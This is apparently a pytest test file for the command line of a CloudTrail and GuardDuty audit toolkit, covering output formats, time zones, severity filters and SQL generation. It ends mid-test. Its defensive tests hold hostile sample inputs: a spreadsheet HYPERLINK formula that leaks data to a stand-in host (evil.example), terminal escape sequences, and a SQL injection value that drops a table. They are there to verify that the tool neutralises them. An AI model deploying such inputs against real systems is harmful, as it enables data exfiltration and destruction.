"""The command line: every command has help; JSON, CSV and tables carry the documented fields."""

from __future__ import annotations

import csv
import io
import json
import re

import click
import pytest
from click.testing import CliRunner

from audit_toolkit.analysis import actors
from audit_toolkit.analysis.detections import CATALOGUE
from audit_toolkit.cli import main
from audit_toolkit.errors import AuditToolkitError
from real_data import cloudtrail_record, invictus, real_data

SG_FIELDS = {"event_time", "event_id", "account", "region", "group_id", "action", "direction", "protocol", "from_port",
             "to_port", "peer", "actor", "source_ip", "user_agent", "error_code"}


def intake(files: int, read: int, used: int) -> str:
    """The summary line of a clean read: each noun agrees with its count ('1 file', '0 files')."""
    return (f"{files} file{'s' * (files != 1)}, {read} event{'s' * (read != 1)} read, {used} used, 0 rejected, "
            "0 unreadable files, 0 duplicate events counted once")
WINDOW_FIELDS = {"group_id", "account", "region", "direction", "protocol", "from_port", "to_port", "cidr", "opened_at",
                 "opened_by", "closed_at", "closed_by", "still_open", "group_name", "vpc_id", "opened_how",
                 "opened_after", "closed_after"}


def run(*args: str) -> click.testing.Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def usage(command: str) -> str:
    """What click prints above a usage error's message (the program is `main` under CliRunner)."""
    return f"Usage: main {command} [OPTIONS]\nTry 'main {command} --help' for help.\n\n"


def _commands(group: click.Group, prefix=()):
    for name, command in group.commands.items():
        yield (*prefix, name)
        if isinstance(command, click.Group):
            yield from _commands(command, (*prefix, name))


@pytest.mark.parametrize("path", list(_commands(main)), ids=" ".join)
def test_every_command_has_help(path):
    result = run(*path, "--help")
    assert result.exit_code == 0
    assert "Usage:" in result.output and len(result.output.splitlines()) > 3


def test_help_says_what_is_read():
    assert "from CloudTrail logs and GuardDuty findings" in " ".join(run("--help").output.split())
    for command in ("sg-changes", "findings", "ingest"):
        text = " ".join(run(command, "--help").output.split())
        assert "--evidence PATH A folder of CloudTrail logs and GuardDuty findings (S3 layout or loose files)" in text


def test_ssh_exposure_json(demo, truth):
    result = run("ssh-exposure", "--evidence", str(demo / "evidence"), "--format", "json")
    assert result.exit_code == 0
    windows = json.loads(result.stdout)
    assert len(windows) == len(truth["windows"]) == 11
    assert all(WINDOW_FIELDS <= set(w) for w in windows)
    # Without --state-at the describe answer is refused, said on stderr with how to give its time.
    assert "describe-security-groups.json" in result.stderr and "--state-at" in result.stderr
    bastion = next(w for w in windows if w["group_id"] == "sg-0a000000000000001")
    assert (bastion["opened_at"], bastion["closed_at"], bastion["duration_seconds"]) == (
        "2026-11-03T09:02:00Z", "2026-11-03T11:32:15Z", 9015)
    assert "evidence:" in result.stderr  # the intake report goes to stderr, the answer to stdout


def test_sg_changes_json_and_scope(demo, truth):
    result = run("sg-changes", "--evidence", str(demo / "evidence"), "--format", "json",
                 "--account", "333333333333", "--since", "2026-11-03T00:00:00Z")
    changes = json.loads(result.stdout)
    assert all(SG_FIELDS <= set(c) for c in changes)
    assert sorted(c["event_id"] for c in changes) == sorted(
        c["event_id"] for c in truth["sg_changes"] if c["account"] == "333333333333" and c["event_time"] >= "2026-11-03")


def test_sg_changes_csv(demo, truth):
    result = run("sg-changes", "--evidence", str(demo / "evidence"), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(truth["sg_changes"])
    assert SG_FIELDS <= set(rows[0])
    # Every documented value as the ground truth has it: ports as integers (22, not 22.0), all traffic as -1.
    as_csv = lambda v: "" if v is None else str(v)  # noqa: E731
    keys = list(truth["sg_changes"][0])
    assert sorted([r[k] for k in keys] for r in rows) == sorted([as_csv(c[k]) for k in keys] for c in truth["sg_changes"])
    everything = next(r for r in rows if r["protocol"] == "-1" and r["action"] == "authorize")
    assert (everything["from_port"], everything["to_port"], everything["peer"]) == ("", "", "0.0.0.0/0")  # no ports


def test_ssh_exposure_csv_durations_are_whole_seconds(demo):
    result = run("ssh-exposure", "--evidence", str(demo / "evidence"), "--format", "csv")
    bastion = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["group_id"] == "sg-0a000000000000001")
    assert (bastion["from_port"], bastion["to_port"], bastion["duration_seconds"]) == ("22", "22", "9015")


def _hostile_change(tmp_path):
    """The real tcp/22 opening, its user agent a spreadsheet formula and its error code terminal escapes."""
    record = cloudtrail_record("AuthorizeSecurityGroupIngress", '"fromPort": 22')
    record.update(userAgent='=HYPERLINK("http://evil.example/?"&A1)', errorCode="\x1b]0;pwned\x07Denied\u202e\x9b",
                  errorMessage="-2+3")
    path = tmp_path / "change.json"
    path.write_text(json.dumps({"Records": [record]}), encoding="utf-8")
    return path


def test_table_shows_control_and_bidi_characters_as_escapes(tmp_path):
    result = run("sg-changes", "--evidence", str(_hostile_change(tmp_path)))
    assert result.stdout.splitlines()[1].split()[-1] == r"\x1b]0;pwned\x07Denied\u202e\x9b"
    assert not any(c in result.stdout for c in "\x1b\x07\u202e\x9b")


def test_csv_defuses_formulas_and_keeps_numbers(tmp_path):
    result = run("sg-changes", "--evidence", str(_hostile_change(tmp_path)), "--format", "csv")
    [row] = csv.DictReader(io.StringIO(result.stdout))
    assert (row["user_agent"], row["error_message"]) == ("'=HYPERLINK(\"http://evil.example/?\"&A1)", "'-2+3")
    assert (row["protocol"], row["from_port"], row["to_port"]) == ("tcp", "22", "22")
    assert row["error_code"] == "\x1b]0;pwned\x07Denied\u202e\x9b"  # the raw value is the evidence


def test_ssh_exposure_table_and_ports(demo):
    result = run("ssh-exposure", "--evidence", str(demo / "evidence"), "--port", "3389")
    assert result.exit_code == 0
    rows = result.stdout.splitlines()[1:]
    # RDP opened by mallory, and carol's all-traffic rule, which lets 3389 in too.
    assert [r.split()[2] for r in rows] == ["sg-0c000000000000003", "sg-0e000000000000005"]
    assert [r.split()[3:5] for r in rows] == [["-1", "all"], ["tcp", "3389"]]  # a port range in one cell


def test_activity(demo):
    result = run("activity", "--evidence", str(demo / "evidence"), "--principal", "mallory", "--format", "json")
    events = json.loads(result.stdout)
    assert {e["actor"] for e in events} == {"arn:aws:iam::111111111111:role/ops-admin (session mallory)"}


def test_bad_input_is_reported_on_stderr(tmp_path):
    (tmp_path / "broken.json.gz").write_bytes(b"\x1f\x8b\x08\x00garbage")
    result = run("sg-changes", "--evidence", str(tmp_path))
    assert result.exit_code == 0
    assert "broken.json.gz" in result.stderr and "gzip" in result.stderr
    assert result.stdout.strip() == "(none: no security-group call in the scope)"


def test_library_errors_are_clean_messages(tmp_path):
    result = CliRunner().invoke(main, ["sg-changes", "--evidence", str(tmp_path), "--since", "not-a-time"])
    assert result.exit_code == 2 and result.exception.__class__ is SystemExit  # a usage error
    assert "Error: --since/--until must be an ISO 8601 time such as 2026-11-03T09:00:00Z, got 'not-a-time'" in result.output


@pytest.mark.parametrize("args, env, message", [
    (["--port", "70000"], {}, "Error: watched ports must be 1..65535, got 70000"),
    (["--port", "22", "--port", "0"], {}, "Error: watched ports must be 1..65535, got 22, 0"),
    ([], {"AUDIT_TOOLKIT_WATCHED_PORTS": "22,65536"}, "Error: watched ports must be 1..65535, got 22, 65536"),
    ([], {"AUDIT_TOOLKIT_INTERNET_PREFIX_LEN": "abc"}, "Error: AUDIT_TOOLKIT_INTERNET_PREFIX_LEN must be an integer, got 'abc'"),
    ([], {"AUDIT_TOOLKIT_INTERNET_PREFIX_LEN": "129"}, "Error: internet prefix length must be 0..128, got 129"),
])
def test_invalid_settings_are_clean_messages(tmp_path, args, env, message):
    result = CliRunner().invoke(main, ["ssh-exposure", "--evidence", str(tmp_path), *args], env=env)
    assert result.exit_code == 1 and result.exception.__class__ is SystemExit
    assert result.output.strip() == message


def test_time_arguments_are_checked_before_any_evidence_is_read(demo, tmp_path):
    evidence = str(demo / "evidence")
    reversed_ = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence, "--since", "2026-11-05", "--until", "2026-11-04"])
    assert (reversed_.exit_code, reversed_.output) == (  # usage errors: exit 2, with click's usage line
        2, usage("ssh-exposure") + "Error: --since 2026-11-05T00:00:00Z is not before --until 2026-11-04T00:00:00Z: "
        "the time range is empty\n")
    typo = CliRunner().invoke(main, ["detect", "--evidence", evidence, "--until", "2026-13-01"])
    assert (typo.exit_code, typo.output) == (  # no intake line: nothing was scanned
        2, usage("detect") + "Error: --since/--until must be an ISO 8601 time such as 2026-11-03T09:00:00Z, "
        "got '2026-13-01'\n")
    zone = CliRunner().invoke(main, ["report", "--evidence", evidence, "--out", str(tmp_path / "r"), "--tz", "Mars/Olympus"])
    assert (zone.exit_code, zone.output) == (
        2, usage("report") + "Error: unknown time zone 'Mars/Olympus': use an IANA name such as Asia/Tokyo\n")
    assert not (tmp_path / "r").exists()


def test_detect_json_only_and_severity(demo, truth):
    result = run("detect", "--evidence", str(demo / "evidence"), "--only", "cloudtrail_stopped", "--format", "json")
    rows = json.loads(result.stdout)
    stops = [h for h in truth["detections"]["hits"] if h["detection"] == "cloudtrail_stopped"]
    assert [(r["event_id"], r["outcome"]) for r in rows] == [(h["event_id"], h["outcome"]) for h in stops]
    table = run("detect", "--evidence", str(demo / "evidence"), "--min-severity", "critical").stdout
    assert "cloudtrail_stopped" in table and "sns_topic_deleted" not in table


def test_detect_catalogue_and_unknown_id(demo):
    listing = run("detect", "--catalogue", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(listing)))
    assert [r["id"] for r in rows] == [d.id for d in CATALOGUE] and rows[0]["id"] == "sns_subscription_changed"
    result = CliRunner().invoke(main, ["detect", "--evidence", str(demo / "evidence"), "--only", "nope"])
    assert result.exit_code == 2 and "unknown detection nope" in result.output


def test_coverage_table(demo, truth):
    result = run("coverage", "--evidence", str(demo / "evidence"), "--format", "json")
    rows = json.loads(result.stdout)
    assert [r["kind"] for r in rows].count("no_events") == len(truth["detections"]["gaps"])
    assert {r["trail"] for r in rows if r["kind"] != "no_events"} == {"org-trail", "staging-trail"}
    # 13:59 to 17:00 is 3.0166... hours: shown to two decimals, the exact times beside them
    stopped = next(r for r in rows if r["kind"] == "logging_stopped")
    assert (stopped["start"], stopped["end"], stopped["hours"]) == ("2026-11-04T13:59:00Z", "2026-11-04T17:00:00Z", 3.02)
    table = run("coverage", "--evidence", str(demo / "evidence")).stdout.splitlines()
    # a time is a date and a time of day in the table: hours is the eighth field
    assert [line.split()[7] for line in table[1:]] == ["0.05", "3.0", "3.02", "3.0", "3.0", "3.0"]


def test_a_single_file_is_read_by_its_own_reader():
    trail = invictus() / "218007301253_CloudTrail_us-east-1_20230710T1240Z_C1qUFaqvZS64BcIN.json"
    result = run("findings", "--evidence", str(trail))
    assert result.stderr == f"evidence {trail}: {intake(1, 2, 2)}\n"  # no GuardDuty line: nothing read as findings
    assert result.stdout == "(none: no GuardDuty finding in the scope (the evidence holds no GuardDuty file))\n"
    found = real_data() / "elastic-integrations-aws" / "guardduty" / "test-guardduty.log"
    result = run("findings", "--evidence", str(found), "--format", "json")
    assert result.stderr.splitlines() == [
        f"evidence {found}: {intake(0, 0, 0)}",
        f"GuardDuty findings: {intake(1, 5, 5)}",
        f"  {found}: read 5, used 5, rejected 0: an empty page of findings ({{'findings': []}})",
    ]
    assert [(f["severity"], f["type"]) for f in json.loads(result.stdout)] == [
        (8.0, "Persistence:Kubernetes/SuccessfulAnonymousAccess"), (8.0, "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin"),
        (5.0, "Discovery:Kubernetes/TorIPCaller"), (5.0, "Trojan:EC2/BlackholeTraffic!DNS"),
        (5.0, "PrivilegeEscalation:Runtime/DockerSocketAccessed")]


def test_a_loose_folder_reads_get_findings_output_as_findings(tmp_path):
    finding = json.loads((real_data() / "elastic-integrations-aws" / "guardduty" / "test-guardduty.log").read_text().splitlines()[0])
    (tmp_path / "findings.json").write_text(json.dumps({"Findings": [finding]}))
    # a copy: a link to a file outside the folder is not evidence (layout._leaves)
    (tmp_path / "trail.log").write_bytes((real_data() / "elastic-integrations-aws" / "cloudtrail" / "test-authorize-security-group-ingress-json.log").read_bytes())
    result = run("findings", "--evidence", str(tmp_path), "--format", "json")
    assert result.stderr.splitlines() == [f"evidence {tmp_path}: {intake(1, 1, 1)}", f"GuardDuty findings: {intake(1, 1, 1)}"]
    assert [f["id"] for f in json.loads(result.stdout)] == [finding["id"]]


@pytest.mark.parametrize("bound", ["high", "7"])
def test_min_severity_takes_a_band_or_a_number_on_every_command(demo, truth, bound):
    """findings, correlate, detect and notify read --min-severity with one parser: high and 7 are the same bound."""
    from audit_toolkit.analysis.detections import BY_ID

    evidence = str(demo / "evidence")
    found = json.loads(run("findings", "--evidence", evidence, "--min-severity", bound, "--format", "json").stdout)
    assert [(f["id"], f["severity"]) for f in found] == [("5e000000000000000000000000000005", 8.0)]
    assert json.loads(run("correlate", "--evidence", evidence, "--min-severity", bound, "--format", "json").stdout) == []
    low = {"high": "low", "7": "1"}[bound]  # every correlated finding is Low (2.0)
    assert len(json.loads(run("correlate", "--evidence", evidence, "--min-severity", low, "--format", "json").stdout)) == 5
    hits = json.loads(run("detect", "--evidence", evidence, "--min-severity", bound, "--format", "json").stdout)
    story = [h for h in truth["detections"]["hits"] if BY_ID[h["detection"]].severity in ("high", "critical")]
    # and root's call of 11-02 (high), and the incident's 7 logged SSH openings and its refused one (high)
    assert len(hits) == len(story) + 1 + 8 == 71
    assert {h["severity"] for h in hits} == {"high", "critical"}
    sent = json.loads(run("notify", "--evidence", evidence, "--room", "42", "--kind", "detections", "--min-severity", bound,
                          "--dry-run", "--format", "json").stdout)
    assert sorted(s["fingerprint"] for s in sent) == sorted({s["fingerprint"] for s in sent}) and len(sent) == 71
    sent = json.loads(run("notify", "--evidence", evidence, "--room", "42", "--kind", "findings", "--min-severity", bound,
                          "--dry-run", "--format", "json").stdout)
    assert len(sent) == 1 and sent[0]["kind"] == "guardduty"


@pytest.mark.parametrize("command", ["findings", "correlate", "detect", "notify"])
def test_min_severity_out_of_range_is_refused_the_same_way(demo, command):
    extra = ["--room", "42", "--dry-run"] if command == "notify" else []
    for bad, reason in (("urgent", "expected low, medium, high, critical or a number from 0 to 10"),
                        ("11", "a GuardDuty severity is from 0 to 10")):
        result = CliRunner().invoke(main, [command, "--evidence", str(demo / "evidence"), *extra, "--min-severity", bad])
        assert result.exit_code == 2 and f"Invalid value for '--min-severity': '{bad}': {reason}" in result.output


def test_reconcile_lists_every_disagreement_of_state_and_logs(demo, truth):
    result = run("reconcile", "--evidence", str(demo / "evidence"), "--state-at", truth["state_at"], "--format", "json")
    assert result.exit_code == 0
    found = json.loads(result.stdout)
    assert [(r["kind"], r["group_id"], r["after"], r["before"]) for r in found] == [
        (r["kind"], r["group_id"], r["after"], r["before"]) for r in truth["reconcile"]]
    assert ("Security-group state: 4 state files, 12 security-group items read, 12 used, 0 rejected, "
            "0 unreadable files, 1 item of other resource types left\n") in result.stderr
    table = run("reconcile", "--evidence", str(demo / "evidence"), "--state-at", truth["state_at"],
                "--since", "2026-11-03T00:00:00Z")
    assert table.stdout.count("sg-02b0000000000000b") == 2 and "legacy-bastion" not in table.stdout


@pytest.mark.parametrize("command", ["reconcile", "detect"])
def test_csv_and_json_leave_out_the_catalogue_codes(demo, truth, command):
    # `coverage_phrase`/`detail_phrase` are for the report; CSV showed them as Python dict reprs
    args = [command, "--evidence", str(demo / "evidence"), "--state-at", truth["state_at"]]
    rows = json.loads(run(*args, "--format", "json").stdout)
    header = next(csv.reader(io.StringIO(run(*args, "--format", "csv").stdout)))
    assert rows and "detail" in rows[0] and "detail" in header
    assert [c for c in [*rows[0], *header] if c.endswith("_phrase")] == []


def test_a_bad_state_at_is_a_clean_error(demo):
    result = CliRunner().invoke(main, ["reconcile", "--evidence", str(demo / "evidence"), "--state-at", "soon"])
    assert result.exit_code != 0 and "Traceback" not in result.output and "soon" in result.output


# --- the investigator's view (issue 20): one time zone, whole identities, options checked first ---

OUTPUT_COMMANDS = ["sg-changes", "ssh-exposure", "activity", "detect", "coverage", "findings", "correlate",
                   "notify", "report"]


@pytest.mark.parametrize("command", OUTPUT_COMMANDS)
def test_every_command_that_prints_times_takes_tz_and_repeatable_scopes(command):
    text = " ".join(run(command, "--help").output.split())
    assert "--tz TEXT" in text
    assert "--account TEXT Only this AWS account id (repeatable)." in text
    assert "--region TEXT Only this AWS region (repeatable)." in text


@pytest.mark.parametrize("command", ["sg-changes", "activity", "detect", "coverage", "findings"])
def test_exposure_options_are_offered_only_where_they_mean_something(command):
    text = run(command, "--help").output
    assert "--port" not in text and "--internet-prefix" not in text


def test_times_follow_the_display_zone_in_every_format(demo):
    evidence = str(demo / "evidence")
    as_json = json.loads(run("ssh-exposure", "--evidence", evidence, "--format", "json", "--tz", "Asia/Tokyo").stdout)
    bastion = next(w for w in as_json if w["group_id"] == "sg-0a000000000000001")
    assert (bastion["opened_at"], bastion["closed_at"]) == ("2026-11-03T18:02:00+09:00", "2026-11-03T20:32:15+09:00")
    as_csv = run("ssh-exposure", "--evidence", evidence, "--format", "csv", "--tz", "JST").stdout
    assert "2026-11-03T18:02:00+09:00" in as_csv and "09:02:00Z" not in as_csv
    table = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence], env={"AUDIT_TOOLKIT_DISPLAY_TZ": "Asia/Tokyo"})
    assert "2026-11-03 18:02:00" in table.stdout and "times in Asia/Tokyo" in table.stderr
    said = run("correlate", "--evidence", evidence, "--tz", "Asia/Tokyo").stdout
    assert " JST" in said and " UTC" not in said


def test_an_abbreviation_is_taken_or_answered_with_the_zone_to_use(tmp_path):
    result = run("sg-changes", "--evidence", str(tmp_path), "--tz", "PST")
    assert result.exit_code == 2
    assert result.output == usage("sg-changes") + (
        "Error: unknown time zone 'PST': use an IANA name such as America/Los_Angeles\n")
    from audit_toolkit.settings import zone_name

    assert [zone_name(z) for z in ("utc", "Utc", "GMT", "jst", "Asia/Tokyo")] == [
        "UTC", "UTC", "UTC", "Asia/Tokyo", "Asia/Tokyo"]
    # tzdata's own EST and MST are fixed offsets: taken, they read New York an hour off all summer
    for typed, hint in [("Asia/tokyo", "Asia/Tokyo"), ("CST", "America/Chicago or Asia/Shanghai"),
                        ("+09:00", "Asia/Tokyo"), ("EST", "America/New_York"), ("est", "America/New_York"),
                        ("MST", "America/Denver or America/Phoenix"), ("ET", "America/New_York"),
                        ("PT", "America/Los_Angeles")]:
        with pytest.raises(AuditToolkitError, match=f"unknown time zone '{re.escape(typed)}': use an IANA name "
                                                   f"such as {hint}$"):
            zone_name(typed)


def test_the_table_shows_whole_identities_in_short_form_and_says_what_it_left_out(demo):
    evidence = str(demo / "evidence")
    wide = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence], env={"COLUMNS": "400"})
    assert wide.exit_code == 0 and "left out" not in wide.stderr
    assert "ops-admin / mallory" in wide.stdout and "carol@example.com (SSO)" in wide.stdout
    assert "(SSO via" not in wide.stdout and "session mallory" not in wide.stdout
    narrow = CliRunner().invoke(main, ["ssh-exposure", "--evidence", evidence], env={"COLUMNS": "80"})
    assert max(len(line) for line in narrow.stdout.splitlines()) <= 80
    assert ("left out to fit the terminal: ambiguous_order, reach, open_before_evidence, region, account, "
            "group_name, protocol, opened_how, close_reason, closed_by, closed_at, cidr (") in " ".join(narrow.stderr.split())
    lines = narrow.stdout.splitlines()
    assert "…" not in narrow.stdout  # wrapped, never cut: the rest of a cell is on the next line, same column
    at = next(i for i, line in enumerate(lines) if "ops-admin /" in line)
    column = lines[at].index("ops-admin /")
    # ports is kept at 80 (an RDP window never reads as an SSH one), so the identity wraps between its words
    assert lines[at][column:].split("  ")[0] == "ops-admin /" and lines[at + 1][column:].strip() == "mallory"
    whole = json.loads(run("ssh-exposure", "--evidence", evidence, "--format", "json").stdout)
    assert "arn:aws:iam::111111111111:role/ops-admin (session mallory)" in {w["opened_by"] for w in whole}


def test_activity_speaks_snake_case_and_an_empty_answer_says_why(demo):
    rows = json.loads(run("activity", "--evidence", str(demo / "evidence"), "--principal", "mallory",
                          "--format", "json").stdout)
    assert {"event_time", "event_name", "event_source", "source_ip", "error_code"} <= set(rows[0])
    assert not {"eventtime", "eventname", "sourceipaddress"} & set(rows[0])
    empty = run("activity", "--evidence", str(demo / "evidence"), "--principal", "malory")
    assert empty.stdout.startswith("(none: no event names the principal 'malory'; the nearest that exist: mallory")


@pytest.mark.parametrize("args, env, code, message", [  # a typo is a usage error; no token, a failed run
    (["detect", "--only", "nope"], {}, 2, usage("detect") + "Error: unknown detection nope;"),
    (["notify", "--room", "1"], {"CHATWORK_API_TOKEN": "", "AUDIT_TOOLKIT_CHATWORK_TOKEN_FILE": "/nonexistent"},
     1, "Error: no Chatwork token"),
])
def test_options_are_checked_before_any_evidence_is_read(demo, args, env, code, message):
    result = CliRunner().invoke(main, [*args, "--evidence", str(demo / "evidence")], env=env)
    assert result.exit_code == code and result.output.startswith(message)
    assert "events read" not in result.output  # nothing was scanned


def test_a_repeated_account_or_region_is_a_list(demo):
    evidence = str(demo / "evidence")
    both = json.loads(run("ssh-exposure", "--evidence", evidence, "--account", "222222222222", "--account",
                          "333333333333", "--format", "json").stdout)
    assert sorted((w["account"], w["group_id"]) for w in both) == [
        ("222222222222", "sg-0c000000000000003"), ("333333333333", "sg-0f000000000000006"),
        ("333333333333", "sg-0f000000000000007")]
    regions = json.loads(run("sg-changes", "--evidence", evidence, "--region", "us-east-1", "--region", "eu-west-1",
                             "--format", "json").stdout)
    assert {r["region"] for r in regions} == {"us-east-1", "eu-west-1"}
    assert [r["event_time"] for r in regions] == sorted(r["event_time"] for r in regions)


def test_fail_on_open_exits_non_zero_only_when_a_window_is_still_open(demo, truth):
    evidence = str(demo / "evidence")
    still = run("ssh-exposure", "--evidence", evidence, "--fail-on-open")
    still_open = sum(w["closed_at"] is None for w in truth["windows"])  # the ground truth's
    assert still.exit_code == 3 and f"{len(truth['windows'])} windows, {still_open} still open" in still.stderr
    closed = run("ssh-exposure", "--evidence", evidence, "--account", "222222222222", "--fail-on-open")
    assert closed.exit_code == 0 and "1 window, 0 still open" in closed.stderr


def test_fail_on_open_fails_when_the_evidence_cannot_show_that_nothing_is_open(demo, tmp_path):
    """A cron audit must not go green on no evidence, an unreadable file, or a place the evidence lacks."""
    (tmp_path / "empty").mkdir()
    (tmp_path / "bad.json").write_text("garbage")
    for args, said in [(["--evidence", str(tmp_path / "empty")], "no event read"),
                       (["--evidence", str(tmp_path / "bad.json")], "no event read; 1 unreadable file"),
                       (["--evidence", str(demo / "evidence"), "--region", "ap-northeast-3"], "region ap-northeast-3")]:
        result = run("ssh-exposure", *args, "--fail-on-open")
        assert result.exit_code == 4
        assert result.stderr.splitlines()[-1] == f"the evidence cannot show that nothing is open: {said}"
    absent = run("ssh-exposure", "--evidence", str(demo / "evidence"), "--account", "999999999999")
    assert absent.exit_code == 0
    assert absent.stdout == "(none: account 999999999999: no event in the evidence in the range)\n"


@pytest.mark.parametrize("args, message", [
    (["--account", "11111111111"], "Invalid value for --account: '11111111111' is no AWS account id (12 digits)"),
    (["--region", "ap-northeast-l"], "Invalid value for --region: 'ap-northeast-l' is no AWS region name"),
    (["--state-at", "garbage"], "Error: --state-at must be an ISO 8601 time such as 2026-11-03T09:00:00Z, got 'garbage'"),
    (["--state-at", "9999-12-31"], "--state-at must fall in the years 1970 to 9998, got '9999-12-31'"),
    (["--from-state"], "--from-state needs --since, --account and --region"),
])
def test_places_and_times_are_checked_before_any_evidence_is_read(demo, args, message):
    result = run("sg-changes", "--evidence", str(demo / "evidence"), *args)
    assert result.exit_code in (1, 2) and message in result.output
    assert "events read" not in result.output  # nothing was scanned


def test_filters_that_leave_nothing_to_ask_say_so(demo):
    evidence = str(demo / "evidence")
    none_run = run("detect", "--evidence", evidence, "--only", "root_used", "--min-severity", "critical")
    assert none_run.exit_code == 2 and "no detection of root_used is at least critical: these filters leave " \
        "nothing to run" in none_run.output and "events read" not in none_run.output
    assert run("connections", "--evidence", evidence, "--group", "sg-nope").stdout == \
        "(none: group sg-nope had no exposure window in the range)\n"


def test_a_time_without_a_zone_is_read_in_the_zone_the_tables_show(demo):
    """Pasted from a JST table, 18:00 means 18:00 JST (09:00 UTC), and stderr says so."""
    result = run("sg-changes", "--evidence", str(demo / "evidence"), "--tz", "JST", "--since", "2026-11-03T18:00",
                 "--until", "2026-11-03T18:06", "--format", "json")
    assert [(r["event_time"], r["action"]) for r in json.loads(result.stdout)] == [
        ("2026-11-03T18:00:00+09:00", "create_group"), ("2026-11-03T18:01:00+09:00", "authorize"),
        ("2026-11-03T18:02:00+09:00", "authorize"), ("2026-11-03T18:05:41+09:00", "authorize")]
    assert result.stderr.splitlines()[0] == ("times without a zone read in Asia/Tokyo: --since "
                                             "2026-11-03T18:00:00+09:00, --until 2026-11-03T18:06:00+09:00")
    utc = run("sg-changes", "--evidence", str(demo / "evidence"), "--since", "2026-11-03T09:00",
              "--until", "2026-11-03T09:06", "--format", "json")
    assert [r["event_time"] for r in json.loads(utc.stdout)] == [
        "2026-11-03T09:00:00Z", "2026-11-03T09:01:00Z", "2026-11-03T09:02:00Z", "2026-11-03T09:05:41Z"]
    assert "times without a zone" not in utc.stderr


def test_a_local_time_a_dst_change_skips_is_refused_and_one_it_repeats_says_its_offset(tmp_path, monkeypatch):
    """2026-03-08T02:30 never happened in New York; 2026-11-01T01:30 happened twice."""
    monkeypatch.setenv("AUDIT_TOOLKIT_LANGUAGE", "en")
    skipped = run("sg-changes", "--evidence", str(tmp_path), "--tz", "America/New_York", "--since", "2026-03-08T02:30")
    assert skipped.exit_code == 2 and skipped.stderr.splitlines()[-1] == (
        "Error: Invalid value for --since: 2026-03-08T02:30 does not exist in America/New_York (the clocks skip "
        "it at a DST change): give it with an offset")
    twice = run("sg-changes", "--evidence", str(tmp_path), "--tz", "America/New_York", "--until", "2026-11-01T01:30")
    assert twice.exit_code == 0 and twice.stderr.splitlines()[:2] == [
        "2026-11-01T01:30 occurs twice in America/New_York (the end of DST): read as the first, "
        "2026-11-01T01:30:00-04:00 (the second is 2026-11-01T01:30:00-05:00)",
        "times without a zone read in America/New_York: --until 2026-11-01T01:30:00-04:00"]
    monkeypatch.setenv("AUDIT_TOOLKIT_LANGUAGE", "ja")
    ja = run("sg-changes", "--evidence", str(tmp_path), "--tz", "America/New_York", "--since", "2026-03-08T02:30")
    assert "2026-03-08T02:30 は America/New_York に存在しない時刻です" in ja.stderr


def test_sql_prints_the_athena_text_bound_as_literals_ready_to_paste():
    import sqlglot

    from audit_toolkit import queries

    result = run("sql", "principal_events", "--since", "2026-11-01", "--until", "2026-11-08",
                 "--account", "111111111111", "--param", "principal=o'brien'; DROP TABLE cloudtrail; --")
    assert result.exit_code == 0
    text = result.stdout
    assert "%(" not in text and ":principal" not in text and "$" not in text
    assert "useridentity.arn = 'o''brien''; DROP TABLE cloudtrail; --'" in text
    assert "account = '111111111111'" in text
    assert "from_iso8601_timestamp(eventtime) >= from_iso8601_timestamp('2026-11-01T00:00:00Z')" in text
    (statement,) = sqlglot.parse(text, read="athena")  # one statement: nothing closed the quote
    assert statement.find(sqlglot.exp.Drop) is None
    assert [q.split(":")[0] for q in run("sql").stdout.splitlines()] == list(queries.QUERIES)


def test_sql_refuses_a_param_given_twice_rather_than_keeping_the_last():
    result = run("sql", "principal_events", "--param", "principal=mallory", "--param", "principal=alice")
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == "Error: --param principal given 2 times: the query binds one value"
    assert result.stdout == ""


@pytest.mark.parametrize("args, message", [
    (["sql", "principal_events"], "Error: principal_events needs --param principal=..."),
    (["sql", "sg_changes", "--param", "principal=x"], "takes since, until, since_day, until_day, account, region"),
    (["sql", "nope"], "Error: no query named 'nope'"),
    (["sql", "sg_changes", "--since", "2026-11-03", "--param", "since=2020-01-01"],  # its day bound would stay
     "Invalid value for --param: 'since=2020-01-01': the scope is set by --since, --until, --account and --region"),
    # the text binds one account: the second must not silently replace the first
    (["sql", "sg_changes", "--account", "111111111111", "--account", "222222222222"],
     "Error: Invalid value for --account: given 2 times (111111111111, 222222222222); the query binds one value"),
    (["sql", "sg_changes", "--region", "us-east-1", "--region", "eu-west-1"],
     "Error: Invalid value for --region: given 2 times (us-east-1, eu-west-1)"),
])
def test_sql_refuses_what_the_query_does_not_take(args, message):
    result = run(*args)
    assert result.exit_code != 0 and message in result.output
def test_ssh_exposure_reads_pieces_prefix_lists_and_db_groups_end_to_end(tmp_path):
    # The real tcp/22 opening as a template: the internet in two halves, a prefix list the evidence
    # does not hold, and a classic DB security group opened to the internet.
    real = cloudtrail_record("AuthorizeSecurityGroupIngress", '"fromPort": 22')
    group = real["requestParameters"]["groupId"]
    ssh = {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22}
    halves = {**real, "eventID": "e-halves", "responseElements": None, "requestParameters": {"groupId": group, "ipPermissions": {"items": [
        {**ssh, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/1"}, {"cidrIp": "128.0.0.0/1"}]}}]}}}
    listed = {**real, "eventID": "e-list", "responseElements": None, "requestParameters": {"groupId": "sg-0list", "ipPermissions": {"items": [
        {**ssh, "prefixListIds": {"items": [{"prefixListId": "pl-0abc"}]}}]}}}
    database = {**real, "eventID": "e-db", "eventSource": "rds.amazonaws.com", "eventName": "AuthorizeDBSecurityGroupIngress",
                "requestParameters": {"dBSecurityGroupName": "legacy-db", "cIDRIP": "0.0.0.0/0"}, "responseElements": None}
    path = tmp_path / "changes.json"
    path.write_text(json.dumps({"Records": [halves, listed, database]}), encoding="utf-8")
    result = run("ssh-exposure", "--evidence", str(path), "--port", "22", "--port", "3306", "--format", "json")
    found = sorted(((w["group_id"], w["group_name"], w["cidr"], w["exposed_ports"], w["reach"]) for w in json.loads(result.stdout)), key=str)
    assert found == sorted([(group, None, "0.0.0.0/1, 128.0.0.0/1", "22", "internet"), ("sg-0list", None, "pl-0abc", "22", "unknown"),
